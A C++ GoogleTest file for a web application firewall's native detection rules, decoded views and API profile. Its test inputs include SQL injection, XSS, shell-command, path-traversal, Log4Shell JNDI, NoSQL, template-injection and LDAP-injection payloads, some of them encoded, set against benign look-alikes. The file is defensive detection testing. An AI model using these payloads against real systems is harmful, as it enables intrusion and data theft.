// What centinela adds to CRS, on a small rule set shaped like CRS's: the
// native rules (waf.native), decoded views (waf.decode) and the api
// profile's gating (waf.profile), each through an Inspection as the WAF
// stage runs it.
#include <gtest/gtest.h>

#include <algorithm>
#include <iterator>

#include "fake_exchange.h"
#include "rules_with_builtin.h"
#include "seclang/parse.h"
#include "waf/builtin_rules.h"
#include "waf/inspection.h"
#include "waf/program.h"

namespace centinela::waf {
namespace {

// CRS's shape: scores in tx.anomaly_score_pl1, summed before the verdict; a
// method policy; one rule of the SQL family, one of 921.
constexpr const char* kRules = R"(
SecAction "id:901001,phase:1,pass,nolog,setvar:tx.critical_anomaly_score=5,setvar:tx.anomaly_score_pl1=0,setvar:tx.inbound_anomaly_score_threshold=5"
SecRule &TX:allowed_methods "@eq 0" "id:901160,phase:1,pass,nolog,setvar:'tx.allowed_methods=GET HEAD POST OPTIONS'"
SecRule REQUEST_METHOD "!@within %{tx.allowed_methods}" "id:911100,phase:1,pass,log,setvar:'tx.anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ARGS "@rx (?i)\bselect\b" "id:942999,phase:2,pass,log,t:none,setvar:'tx.anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ARGS "@rx (?i)\bselect\b" "id:942190,phase:2,pass,log,t:none,setvar:'tx.anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ARGS "@rx (?i)\b(?:get|post) /" "id:921110,phase:2,pass,log,t:none,setvar:'tx.anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecAction "id:949001,phase:2,pass,nolog,setvar:'tx.anomaly_score=+%{tx.anomaly_score_pl1}'"
)";

std::shared_ptr<const RuleSet> rule_set() {
  static const std::shared_ptr<const RuleSet> set =
      test::compile_with_builtin(kRules, "profile_test.conf");
  return set;
}

ProgramOptions crs() { return {}; }
ProgramOptions api() {
  ProgramOptions o;
  o.profile = Profile::api;
  o.native = kNativeSql | kNativeXss | kNativeShell | kNativePath;
  o.decode.max_depth = 3;
  return o;
}

struct Outcome {
  std::vector<std::uint32_t> rules;
  std::vector<std::uint16_t> decoded;  // by finding
  std::int64_t score = 0;
  bool fired(std::uint32_t id) const {
    return std::find(rules.begin(), rules.end(), id) != rules.end();
  }
  std::uint16_t decoded_of(std::uint32_t id) const {
    const auto at = std::find(rules.begin(), rules.end(), id);
    return at == rules.end() ? 0 : decoded[static_cast<std::size_t>(at - rules.begin())];
  }
};

Outcome inspect(const ProgramOptions& options, std::string_view method, std::string_view target,
                std::string_view content_type = {}, std::string_view body = {}) {
  std::vector<std::pair<std::string, std::string>> fields{{"Host", "api.example.com"}};
  if (!content_type.empty()) fields.emplace_back("Content-Type", std::string(content_type));
  if (!body.empty()) fields.emplace_back("Content-Length", std::to_string(body.size()));
  testing::FakeRequest request(method, target, fields);
  request.ctx.client_ip = "192.0.2.1";
  Inspection inspection(make_program(rule_set(), options), WafMode::detect, request.arena);
  inspection.head(request.ctx);
  if (inspection.wants_body()) {
    inspection.body(body, true);
  } else {
    inspection.no_body();
  }
  const Verdict verdict = inspection.verdict();
  Outcome out;
  out.score = verdict.score;
  for (const Finding& f : *verdict.findings) {
    out.rules.push_back(f.rule);
    out.decoded.push_back(f.decoded);
  }
  return out;
}

TEST(NativeRules, OnlyTheEnabledTokenisersRun) {
  ProgramOptions sql_only;
  sql_only.native = kNativeSql;
  const Outcome sql = inspect(sql_only, "GET", "/items?id=1%27%20OR%20%271%27%3D%271");
  EXPECT_TRUE(sql.fired(9700100));
  const Outcome xss = inspect(sql_only, "GET", "/items?q=%3Cscript%3Ealert(1)%3C/script%3E");
  EXPECT_FALSE(xss.fired(9700200)) << "waf.native.xss is off";
  EXPECT_TRUE(inspect(api(), "GET", "/items?q=%3Cscript%3Ealert(1)%3C/script%3E").fired(9700200));
  EXPECT_TRUE(inspect(api(), "GET", "/items?f=;cat%20/etc/passwd").fired(9700300));
  EXPECT_TRUE(inspect(api(), "GET", "/items?f=../../../../etc/passwd").fired(9700400));
  EXPECT_TRUE(inspect(api(), "GET", "/items?x=%24%7Bjndi:ldap://evil/a%7D").fired(9700500));
  EXPECT_EQ(inspect(crs(), "GET", "/items?id=1%27%20OR%20%271%27%3D%271").rules,
            std::vector<std::uint32_t>{})
      << "no native rule without waf.native";
}

// The tokenisers skip a value whose bytes cannot start their language
// (detect::may_detect on the value's byte set): among plain JSON fields,
// payloads with a single byte past each gate are still read and caught,
// in values and in names.
TEST(NativeRules, ValuesOneByteInsideTheGatesAreStillRead) {
  const auto fired = [](std::string_view field, std::uint32_t rule) {
    const std::string body = R"({"status":"shipped","page":2,"city":"Dublin",)" +
                             std::string(field) + R"(,"sku":"TSH_ORG.M"})";
    return inspect(api(), "POST", "/api/orders", "application/json", body).fired(rule);
  };
  EXPECT_TRUE(fired(R"("p":"../../../etc/passwd")", 9700400));                 // '/' only
  EXPECT_TRUE(fired(R"("p":"..\\..\\..\\windows\\win.ini")", 9700400));        // '\' only
  EXPECT_TRUE(fired(R"("q":"1 union select password from users")", 9700100));  // ' ' only
  EXPECT_TRUE(fired(R"("c":"report;id")", 9700300));                           // ';' only
  EXPECT_TRUE(fired(R"("c":"whoami")", 9700300));  // no opening at all: the first word
  // Without an opening, the first word as the shell reads it
  // (detect::may_start_command): case, blanks, quotes, a directory, ".exe".
  for (const char* field : {R"("c":"sleep 10")", R"("c":"  Uname -a")", R"("c":"which gcc")",
                            R"("c":"c\"a\"t /etc/hosts")", R"("c":"/usr/bin/whoami -a")",
                            R"("c":"IPCONFIG.EXE /all")", R"("c":"net user x y /add")"}) {
    EXPECT_TRUE(fired(field, 9700300)) << field;
  }
  EXPECT_FALSE(fired(R"("c":"cat videos")", 9700300));  // a listed word, not a command line
  EXPECT_TRUE(fired(R"("u":"javascript:alert`1`")", 9700200));
  EXPECT_TRUE(fired(R"("../../../etc/passwd":"x")", 9700400));  // a name
  EXPECT_FALSE(fired(R"("note":"leave it with the concierge")", 9700100));
  EXPECT_EQ(inspect(api(), "POST", "/api/orders", "application/json",
                    R"({"status":"shipped","page":2,"city":"Dublin","sku":"TSH_ORG.M"})")
                .rules,
            std::vector<std::uint32_t>{});
}

// What has no tokeniser: each pattern rule fires on the ways into its
// language and stays quiet on the everyday values that look nearest.
TEST(NativeRules, NoSqlOperatorsAndServerSideJavaScript) {
  for (const char* target :
       {"/login?user=admin&password%5B%24ne%5D=x",      // password[$ne]=x
        "/items?filter=%7B%22%24gt%22%3A%20%22%22%7D",  // {"$gt": ""}
        "/items?q=%27%20%26%26%20this.password.match(/.*/)//",
        "/items?q=%22%3Breturn(true)%3Bvar%20x%3D%27a",  // ";return(true);var x='a
        "/items?q=1%2C%20%24where%3A%20%271%20%3D%3D%201%27"}) {
    EXPECT_TRUE(inspect(api(), "GET", target).fired(9700600)) << target;
  }
  EXPECT_TRUE(inspect(api(), "POST", "/login", "application/json",
                      R"({"user":"admin","password":{"$ne":null}})")
                  .fired(9700600));
  for (const char* target : {"/items?price=%2420&note=costs%20%24in%20total",
                             "/items?q=return%20policy%3B%20var%20names", "/items?a[0]=1"}) {
    EXPECT_FALSE(inspect(api(), "GET", target).fired(9700600)) << target;
  }
  // JSON Schema and .NET type hints are not query operators.
  EXPECT_FALSE(inspect(api(), "POST", "/schemas", "application/json",
                       R"({"$schema":"x","$ref":"#/a","$type":"Order","$comment":"c"})")
                   .fired(9700600));
}

TEST(NativeRules, TraversalEvasionsAndOverlongUtf8) {
  for (const char* target :
       {"/f?p=..2f..2f..2fetc2fpasswd", "/f?p=0x2e0x2e0x2f0x2e0x2e0x2fetc",
        "/f?p=%25c0.%25c0.%25c0%25afwindows", "/f?p=..%255c..%255cetc", "/f?p=..%5C..%5Cetc"}) {
    EXPECT_TRUE(inspect(api(), "GET", target).fired(9700410)) << target;
  }
  for (const char* target :
       {"/f?p=%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd", "/f?p=%E0%80%AE%E0%80%AE/x", "/f?name=%C1%9C"}) {
    EXPECT_TRUE(inspect(api(), "GET", target).fired(9700420)) << target;
  }
  // A system file whose separators are junk, or glued to its directory.
  for (const char* target :
       {"/f?p=..%2525bg%2525qfboot.ini", "/f?p=..%C1%1C..%C1%1Cwindows%C1%1Csystem32",
        "/f?p=etcissue", "/f?p=%3F.%3F.etc%C0%2Fpasswd", "/f?p=..0x5cetc0x5cpasswd"}) {
    EXPECT_TRUE(inspect(api(), "GET", target).fired(9700430)) << target;
  }
  for (const char* target :
       {"/f?q=edit%20%2Fetc%2Fhosts%20first", "/f?q=etc.%20hosts", "/f?q=windows-system32%20guide",
        "/f?q=sketchosts", "/f?q=my%20boot.ini%20file", "/f?q=C%3A%5CWindows%5CSystem32"}) {
    EXPECT_FALSE(inspect(api(), "GET", target).fired(9700430)) << target;
  }
  // Version numbers, hex in prose, UTF-8 and Latin-1 text are none of it.
  for (const char* target : {"/f?v=1.2..3&hex=0x2f", "/f?q=caf%C3%A9%20%C3%80%20la%20carte",
                             "/f?q=caf%E9%20gr%FC%DFe", "/f?q=..%20and%20so%20on"}) {
    const Outcome out = inspect(api(), "GET", target);
    EXPECT_FALSE(out.fired(9700410)) << target;
    EXPECT_FALSE(out.fired(9700420)) << target;
  }
}

// {"note": value} with the value's quotes and backslashes escaped.
std::string json_note(std::string_view value) {
  std::string body = R"({"note":")";
  for (const char c : value) {
    if (c == '"' || c == '\\') body += '\\';
    body += c;
  }
  return body + "\"}";
}

TEST(NativeRules, TemplateExpressionsThatReachForTheRuntime) {
  for (const char* value :
       {"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7 * 7 %>", "{{7*'7'}}",
        "{{''.__class__.__mro__[2].__subclasses__()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{request|attr('application')}}",
        "{{config.items()}}", "${self.module.cache.util.os.system(\"id\")}",
        "{php}echo `id`;{/php}", "{{4+4}}"}) {
    EXPECT_TRUE(
        inspect(api(), "POST", "/notes", "application/json", json_note(value)).fired(9700700))
        << value;
  }
  for (const char* value :
       {"Hello {{name}}", "${user.name}", "{{ request.user.username }}",
        "{% for x in items %}{{ x.title }}{% endfor %}", "#{order.id}", "total: {{ price * qty }}",
        "{{ user.tags|join(', ') }}", "{{ 2024 }}"}) {
    EXPECT_FALSE(
        inspect(api(), "POST", "/notes", "application/json", json_note(value)).fired(9700700))
        << value;
  }
  // Shown in a markdown fence, a payload is data (the api profile).
  EXPECT_FALSE(inspect(api(), "POST", "/posts", "application/json",
                       R"({"body":"Try this:\n```\n{{7*7}}\n```\nthen"})")
                   .fired(9700700));
}

TEST(NativeRules, LdapFiltersClosedAndReopened) {
  for (const char* target :
       {"/users?name=*)(uid=*))(|(uid=*", "/users?name=admin*)((|userPassword=*)",
        "/users?q=*(|(mail=*))", "/users?q=x)(%7C(cn=*)", "/users?name=admin))(%7C(password=*",
        "/users?name=admin)(%26)", "/users?q=*(objectClass=*)"}) {
    EXPECT_TRUE(inspect(api(), "GET", target).fired(9700800)) << target;
  }
  // A whole filter sent as a value, prose and arithmetic with parentheses, a
  // wildcard alone in a name.
  for (const char* target :
       {"/users?filter=(%26(objectClass=user)(cn=bob))", "/users?q=smile%20:)%20(really)",
        "/users?q=a*b", "/users?q=admin*", "/users?q=2*(3%2B4)", "/users?q=f(x)%20(y=2)"}) {
    EXPECT_FALSE(inspect(api(), "GET", target).fired(9700800)) << target;
  }
}

// A NUL after the filter's closing parenthesis or a wildcard: a C library
// reads the filter as ended there, whatever the application appends.
TEST(NativeRules, LdapFiltersCutByANul) {
  for (const char* value : {"*))%00", "admin)%00", "admin*)\\x00"}) {
    EXPECT_TRUE(
        inspect(api(), "POST", "/login", "application/json", json_note(value)).fired(9700800))
        << value;
  }
  EXPECT_TRUE(inspect(api(), "GET", "/users?name=admin%29%2500").fired(9700800));
  EXPECT_TRUE(inspect(api(), "POST", "/login", "application/json", R"({"note":"*)\u0000"})")
                  .fired(9700800));
  for (const char* value : {"100%00 sure", "call f() then %00", "x\\x00"}) {
    EXPECT_FALSE(
        inspect(api(), "POST", "/login", "application/json", json_note(value)).fired(9700800))
        << value;
  }
}

// The probes of a filter injection, which hold no word: query syntax
// escaped a second time, filter operators alone, XPath's every-node
// selector. A value with a word, a media range or one escape of a letter or
// a blank passes.
TEST(NativeRules, FilterProbesWithoutAWord) {
  for (const char* target :
       {"/users?q=%2528", "/users?q=%257C", "/users?q=%252A%257C", "/users?q=%2A%28%29%7C%26%27",
        "/users?q=%2F%2F%2A", "/users?q=%2A%28%29%7C%2526%27", "/users?q=%2A%7C"}) {
    EXPECT_TRUE(inspect(api(), "GET", target).fired(9700810)) << target;
  }
  for (const char* value : {"%21", "*|", "& *", "*()|%26'"}) {
    EXPECT_TRUE(
        inspect(api(), "POST", "/notes", "application/json", json_note(value)).fired(9700810))
        << value;
  }
  for (const char* value : {"100%", "%20", "%41", "(a|b)", "Tom & Jerry (2)", "*/*", "//", "(*)",
                            "&&", "||", "*", "a*|b", "50% off (today)", "%28see below%29"}) {
    EXPECT_FALSE(
        inspect(api(), "POST", "/notes", "application/json", json_note(value)).fired(9700810))
        << value;
  }
}

TEST(DecodedViews, Base64WrappedInjectionInJsonIsFoundAndMarked) {
  // base64 of "1' OR '1'='1' -- "
  const Outcome out = inspect(api(), "POST", "/api/notes", "application/json",
                              R"({"note":"MScgT1IgJzEnPScxJyAtLSA="})");
  ASSERT_TRUE(out.fired(9700100));
  EXPECT_NE(out.decoded_of(9700100), 0) << "the finding says a decoder revealed it";
  EXPECT_GE(out.score, 5);
  ProgramOptions no_decode = api();
  no_decode.decode.max_depth = 0;
  EXPECT_FALSE(inspect(no_decode, "POST", "/api/notes", "application/json",
                       R"({"note":"MScgT1IgJzEnPScxJyAtLSA="})")
                   .fired(9700100));
  ProgramOptions no_base64 = api();
  no_base64.decode.base64 = false;
  EXPECT_FALSE(inspect(no_base64, "POST", "/api/notes", "application/json",
                       R"({"note":"MScgT1IgJzEnPScxJyAtLSA="})")
                   .fired(9700100));
}

TEST(DecodedViews, DoubleEncodingAndFullWidthAreSeenThrough) {
  EXPECT_TRUE(
      inspect(api(), "GET", "/q?s=%253Cscript%253Ealert(1)%253C%252Fscript%253E").fired(9700200));
  // ＜ｓｃｒｉｐｔ＞ａｌｅｒｔ(1)＜/ｓｃｒｉｐｔ＞ in full-width forms.
  EXPECT_TRUE(inspect(api(), "GET",
                      "/q?s=%EF%BC%9C%EF%BD%93%EF%BD%83%EF%BD%92%EF%BD%89%EF%BD%90%EF%BD%94"
                      "%EF%BC%9E%EF%BD%81%EF%BD%8C%EF%BD%85%EF%BD%92%EF%BD%94(1)%EF%BC%9C/"
                      "%EF%BD%93%EF%BD%83%EF%BD%92%EF%BD%89%EF%BD%90%EF%BD%94%EF%BC%9E")
                  .fired(9700200));
}

// "1\0UNION\0SELECT\02--" with its NULs and the rest as entities: the view
// holds the NULs (not U+FFFD), so the tokeniser reads what the bare value gives.
TEST(DecodedViews, NulsWrittenAsHtmlEntitiesStayNuls) {
  const Outcome out = inspect(api(), "POST", "/api/notes", "application/json",
                              R"({"note":"1&#x0;UNION&#0;SELECT&#x0;2&#45;&#x2d;"})");
  ASSERT_TRUE(out.fired(9700100));
  EXPECT_NE(out.decoded_of(9700100), 0);
}

TEST(DecodedViews, PlainValuesGetNoViewsAndAViewDoesNotScoreTwice) {
  ViewLimits limits;
  limits.decoding.max_depth = 3;
  testing::FakeRequest request("GET", "/q?a=hello&b=42&c=PHNjcmlwdD4=", {{"Host", "x"}});
  RequestView view(request.arena, limits);
  view.add_head(request.ctx);
  const auto args = view.get(Collection::args);
  ASSERT_EQ(args.size(), 4u) << "one view, of c only";
  EXPECT_EQ(args[3].name, "c");
  EXPECT_EQ(args[3].value, "<script>");
  EXPECT_NE(args[3].decoded, 0);
  for (std::size_t i = 0; i < 3; ++i) EXPECT_EQ(args[i].decoded, 0);
  // "select" as written and in a view: 942999 matches the value, the view adds nothing.
  ProgramOptions crs_decoding;
  crs_decoding.decode.max_depth = 3;
  const Outcome out = inspect(crs_decoding, "GET", "/q?s=select%2520x");
  EXPECT_EQ(std::count(out.rules.begin(), out.rules.end(), 942999u), 1);
  EXPECT_EQ(out.score, 10);  // 942999 and 942190, once each
}

TEST(ApiProfile, GatedRulesCountOnlyWhereTheTokeniserConfirms) {
  // 942190 is gated (it blocks benign API traffic); 942999 stands for the
  // rules that keep CRS's semantics.
  const char* prose = "/search?q=how%20to%20select%20a%20drop-down%20menu";
  EXPECT_TRUE(inspect(crs(), "GET", prose).fired(942190));
  EXPECT_FALSE(inspect(api(), "GET", prose).fired(942190));
  EXPECT_TRUE(inspect(api(), "GET", prose).fired(942999));
  const char* attack = "/search?q=1%20union%20select%20password%20from%20users";
  EXPECT_TRUE(inspect(api(), "GET", attack).fired(942190));
}

TEST(ApiProfile, MarkdownFencesAndImagesAreNotCode) {
  const std::string post =
      R"({"body":"Why is this slow?\n```sql\nSELECT * FROM users WHERE id = 1 OR 1=1;\n```\nThanks"})";
  EXPECT_FALSE(inspect(api(), "POST", "/forum", "application/json", post).fired(9700100));
  EXPECT_FALSE(inspect(api(), "POST", "/forum", "application/json", post).fired(942999));
  EXPECT_TRUE(inspect(api(), "POST", "/forum", "application/json",
                      R"({"body":"1 OR 1=1; DROP TABLE users--"})")
                  .fired(9700100))
      << "outside a fence the same text is read";
}

TEST(ApiProfile, RestMethodsAnd921110) {
  EXPECT_TRUE(inspect(crs(), "PUT", "/items/1").fired(911100));
  EXPECT_FALSE(inspect(api(), "PUT", "/items/1").fired(911100));
  EXPECT_FALSE(inspect(api(), "DELETE", "/items/1").fired(911100));
  EXPECT_TRUE(inspect(crs(), "GET", "/doc?text=send%20a%20get%20/items").fired(921110));
  EXPECT_FALSE(inspect(api(), "GET", "/doc?text=send%20a%20get%20/items").fired(921110));
}

TEST(ApiProfile, UntypedBodyIsReadAsAForm) {
  const char* body = "name=x&q=1%27%20OR%20%271%27%3D%271";
  EXPECT_TRUE(inspect(api(), "POST", "/form", {}, body).fired(9700100));
  ProgramOptions crs_native = crs();
  crs_native.native = kNativeSql;
  EXPECT_FALSE(inspect(crs_native, "POST", "/form", {}, body).fired(9700100));
}

}  // namespace
}  // namespace centinela::waf
